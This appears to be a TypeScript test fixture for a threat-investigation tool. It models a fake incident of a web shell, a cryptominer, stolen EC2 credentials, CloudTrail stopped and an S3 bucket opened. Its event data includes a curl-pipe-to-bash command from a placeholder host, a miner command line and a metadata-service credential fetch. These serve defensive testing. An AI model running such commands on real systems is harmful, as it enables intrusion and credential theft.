import { type InvestigationContext, investigate } from '../../../src/extension/core/investigate/investigate.ts';
import { parseSeverity } from '../../../src/extension/core/model/severity.ts';
import type { ProcessNode, Scope, SecurityEvent, Threat, ThreatGroup } from '../../../src/extension/core/model/threat.ts';
import { type FakeOptions, type FakeReadTools, type FakeTenant, fakeReadTools } from '../../fakes/readTools.ts';

export const now = Date.UTC(2026, 5, 10, 10);
export const minute = 60_000;
const account = '123456789012';
const instance = 'i-0a1b2c3d4e5f60718';
const address = '198.51.100.23';
const container = '3f2a9c81d7be';

type EventParts = {
  id: string;
  /** minutes before now */
  ago: number;
  rule: string;
  severity?: number;
  source?: string;
  tags?: string[];
  scope: Scope;
  fields?: Record<string, string>;
  output?: string;
};

/** A SecurityEvent with the raw record that it would have been read from, so that tests can hold claims against the raw. */
export function event(parts: EventParts): SecurityEvent {
  const { id, ago, rule, severity = 1, source = 'syscall', tags = [], scope, fields = {}, output } = parts;
  const at = now - Math.round(ago * minute);
  const labels = labelsOf(scope);
  const all = { ...fields, ...(scope.container !== undefined && { 'container.id': scope.container }) };
  const content = { ruleName: rule, ruleTags: tags, fields: all, output };
  const raw = { id, timestamp: `${at}118204`, severity, source, labels, content };
  const word = parseSeverity(severity);
  return {
    id,
    at,
    atNs: `${at}118204`,
    rule,
    source,
    tags,
    labels,
    fields: all,
    scope,
    raw,
    ...(word && { severity: word }),
    ...(output !== undefined && { output }),
  };
}

function labelsOf(scope: Scope): Record<string, string> {
  const pairs = {
    'kubernetes.cluster.name': scope.cluster,
    'kubernetes.namespace.name': scope.namespace,
    'kubernetes.workload.name': scope.workload,
    'kubernetes.pod.name': scope.pod,
    'host.hostName': scope.host,
    'aws.accountId': scope.awsAccount,
    'aws.instanceId': scope.instance,
    'container.image.repo': scope.image?.repository,
    'container.image.tag': scope.image?.tag,
    'container.image.digest': scope.image?.digest,
  };
  return Object.fromEntries(Object.entries(pairs).flatMap(([key, value]) => (value === undefined ? [] : [[key, value]])));
}

export const pod: Scope = {
  cluster: 'prod-eu-1',
  namespace: 'shop',
  workload: 'storefront',
  pod: 'storefront-x2k4q',
  container,
  host: 'node-3-41',
  awsAccount: account,
  instance,
  image: { repository: 'docker.io/acme/storefront', tag: '2.14.1', digest: `sha256:${'9b'.repeat(32)}` },
};
const cloud: Scope = { awsAccount: account };

export const proc = (name: string, cmdline: string, parent: string, pid: number, ppid: number): Record<string, string> => ({
  'proc.name': name,
  'proc.cmdline': cmdline,
  'proc.pname': parent,
  'proc.pid': String(pid),
  'proc.ppid': String(ppid),
  'user.name': 'root',
});

export const call = (api: string, service: string, more: Record<string, string> = {}): Record<string, string> => ({
  'ct.name': api,
  'ct.src': `${service}.amazonaws.com`,
  'ct.srcip': address,
  'ct.user.accountid': account,
  ...more,
});

const key = { 'ct.user': 'backup-admin', 'ct.user.arn': `arn:aws:iam::${account}:user/backup-admin`, 'ct.user.identitytype': 'IAMUser' };
const role = {
  'ct.user': 'ec2-role',
  'ct.user.arn': `arn:aws:sts::${account}:assumed-role/ec2-role/${instance}`,
  'ct.user.identitytype': 'AssumedRole',
};

export const ids = {
  shell: `${'a'.repeat(31)}1`,
  drop: `${'a'.repeat(31)}2`,
  imds: `${'a'.repeat(31)}3`,
  access: `${'a'.repeat(31)}4`,
  trail: `${'a'.repeat(31)}5`,
  bucket: `${'a'.repeat(31)}6`,
  other: `${'a'.repeat(31)}7`,
  neighbour: `${'a'.repeat(31)}8`,
};
export const groups = { web: 'group-web', key: 'group-key', trail: 'group-trail', far: 'group-far', late: 'group-late' };

/** A web shell in a pod, a miner, stolen instance credentials, an access key, CloudTrail stopped, a bucket opened: three groups, one incident. */
export function storefront(): FakeTenant {
  const events = [
    event({
      id: ids.shell,
      ago: 30,
      rule: 'Run shell untrusted',
      tags: ['MITRE_TA0002_execution', 'MITRE_T1059.004_unix_shell'],
      scope: pod,
      fields: proc('bash', `bash -c curl -s http://${address}/i.sh | bash`, 'java', 48190, 31),
    }),
    event({
      id: ids.drop,
      ago: 29.8,
      rule: 'Execution from /dev/shm',
      severity: 0,
      tags: ['MITRE_TA0002_execution', 'MITRE_T1059.004_unix_shell'],
      scope: pod,
      fields: {
        ...proc('kdevtmpfsi', 'kdevtmpfsi -o pool.example:3333', 'bash', 48213, 48190),
        'proc.hash.sha256': '6f'.repeat(32),
        'fd.rip': '203.0.113.77',
      },
    }),
    event({
      id: ids.imds,
      ago: 29,
      rule: 'Contact EC2 Instance Metadata Service',
      tags: ['MITRE_TA0006_credential_access', 'MITRE_T1552.005'],
      scope: pod,
      fields: { ...proc('curl', 'curl -s http://169.254.169.254/latest', 'bash', 48260, 48190), 'fd.sip': '169.254.169.254' },
    }),
    event({
      id: ids.access,
      ago: 23,
      rule: 'Create Access Key for User',
      severity: 3,
      source: 'awscloudtrail',
      tags: ['MITRE_TA0003_persistence'],
      scope: cloud,
      fields: call('CreateAccessKey', 'iam', { ...role, 'ct.request.username': 'backup-admin' }),
    }),
    event({
      id: ids.trail,
      ago: 20,
      rule: 'CloudTrail Logging Disabled',
      source: 'awscloudtrail',
      tags: ['MITRE_TA0005_defense_evasion'],
      scope: cloud,
      fields: call('StopLogging', 'cloudtrail', { ...key, 'ct.request.name': 'org-trail' }),
    }),
    event({
      id: ids.bucket,
      ago: 18,
      rule: 'Delete Bucket Public Access Block',
      severity: 2,
      source: 'awscloudtrail',
      tags: ['MITRE_TA0010_exfiltration'],
      scope: cloud,
      fields: call('DeleteBucketPublicAccessBlock', 's3', { ...key, 'ct.request.bucketname': 'acme-orders' }),
    }),
    event({
      id: ids.other,
      ago: 540,
      rule: 'System Geolocation Discovery',
      severity: 4,
      scope: { host: 'gcp-node-7' },
      fields: proc('locale', 'locale', 'bash', 900, 899),
    }),
    event({
      id: ids.neighbour,
      ago: 35,
      rule: 'Attach/Exec Pod',
      severity: 4,
      source: 'k8s_audit',
      scope: { cluster: 'prod-eu-1', namespace: 'billing' },
      fields: { 'ka.user.name': 'dana@acme.example', 'ka.target.name': 'ledger-0', 'ka.target.namespace': 'billing', 'ka.verb': 'create' },
    }),
  ];
  const description =
    'The java process spawned bash, which ran curl against 198.51.100.23. kdevtmpfsi, child of bash, was executed from /dev/shm.';
  return {
    events,
    groups: [
      group(groups.trail, 'CloudTrail stopped and bucket opened', cloud, 20, 18),
      group(groups.key, 'Access key created from stolen credentials', cloud, 23, 23),
      {
        ...group(
          groups.web,
          'Cryptominer dropped through web shell',
          { cluster: 'prod-eu-1', namespace: 'shop', workload: 'storefront', awsAccount: account },
          30,
          29,
        ),
        description,
      },
      group(groups.late, 'Old alert in the same cluster', { cluster: 'prod-eu-1' }, 400, 390),
      group(groups.far, 'Geolocation discovery on gcp-node-7', { host: 'gcp-node-7' }, 540, 540),
    ],
    threats: [
      {
        ...threat('threat-web', groups.web, [ids.drop, ids.shell, ids.imds]),
        scope: pod,
        description: 'bash, child of java, executed kdevtmpfsi from /dev/shm.',
      },
      threat('threat-key', groups.key, [ids.access]),
      threat('threat-trail', groups.trail, [ids.trail, ids.bucket]),
      threat('threat-far', groups.far, [ids.other]),
    ],
    trees: { [ids.drop]: { roots: [node('java', 31, [node('bash', 48190, [{ ...node('kdevtmpfsi', 48213, []), trigger: true }])])] } },
  };
}

export function group(id: string, title: string, scope: Scope, startAgo: number, endAgo: number): ThreatGroup {
  return { id, title, scope, status: 'open', start: now - startAgo * minute, lastSignal: now - endAgo * minute };
}

export function threat(id: string, groupId: string, eventIds: readonly string[]): Threat {
  return { id, groupId, eventIds, title: `Threat ${id}`, scope: {} };
}

const node = (name: string, pid: number, children: ProcessNode[]): ProcessNode => ({ name, pid, trigger: false, children });

export type Run = { tools: FakeReadTools; lines: string[]; ctx: InvestigationContext; abort: AbortController };

export function prepare(tenant: FakeTenant, options: Partial<FakeOptions> = {}): Run {
  const lines: string[] = [];
  const abort = new AbortController();
  const tools = fakeReadTools(tenant, { now, ...options });
  const ctx: InvestigationContext = {
    tools,
    clock: { now: () => now, sleep: () => Promise.resolve() },
    narrator: { say: (line) => void lines.push(line) },
    log: { write: () => undefined },
    signal: abort.signal,
    tenant: { name: 'acme', region: 'eu1', sample: true },
  };
  return { tools, lines, ctx, abort };
}

export function run(id: string, tenant: FakeTenant, options: Partial<FakeOptions> = {}) {
  return investigate(id, prepare(tenant, options).ctx);
}
